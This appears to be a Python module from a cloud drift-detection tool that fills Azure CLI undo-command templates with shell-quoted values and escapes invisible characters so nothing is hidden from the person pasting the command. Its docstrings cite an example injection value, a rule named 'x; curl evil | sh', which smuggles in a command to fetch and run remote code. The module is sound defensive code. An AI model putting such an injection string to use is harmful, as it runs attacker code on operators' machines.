"""Undo commands: a detector's `az` command template filled in for one server, safe to paste.

Every value comes from outside (names chosen by whoever made the change), so each becomes one
shell word: a rule named `x; curl evil | sh` stays one argument of the command someone pastes.
"""

from __future__ import annotations

import shlex
import unicodedata

from drift.armid import ServerRef


def shell_quote(value: str) -> str:
    """One shell word for `value`. A value with invisible or control characters (a rule named with a
    soft hyphen or a bidi control) is written as `$'...'` with `\\u` escapes: the command still names
    exactly that resource, and nothing in it is hidden from the person who pastes it (bash, zsh)."""
    if all(ch.isprintable() and unicodedata.category(ch) != "Cf" for ch in value):
        return shlex.quote(value)
    escaped = "".join(
        ch if ch.isprintable() and unicodedata.category(ch) != "Cf" and ch not in "\\'"
        else f"\\{ch}" if ch in "\\'" else f"\\u{ord(ch):04x}" if ord(ch) <= 0xFFFF else f"\\U{ord(ch):08x}"
        for ch in value)
    return f"$'{escaped}'"


def remediation(template: str, ref: ServerRef, targets: tuple[str, ...] = ()) -> str:
    """The detector's undo command for this server, once per target (`{target}`) where it has any.

    Every value comes from outside (names chosen by whoever made the change): each is shell-quoted,
    so a rule named `x; curl evil | sh` stays one argument of the command someone pastes.
    """
    values = {"{server}": ref.name, "{resource_group}": ref.server.resource_group or "", "{server_id}": ref.server_id}
    for placeholder, value in values.items():
        template = template.replace(placeholder, shell_quote(value))
    if "{target}" not in template:
        return template
    return " ; ".join(template.replace("{target}", shell_quote(t)) for t in targets) if targets else template.replace(
        "{target}", "<name>")
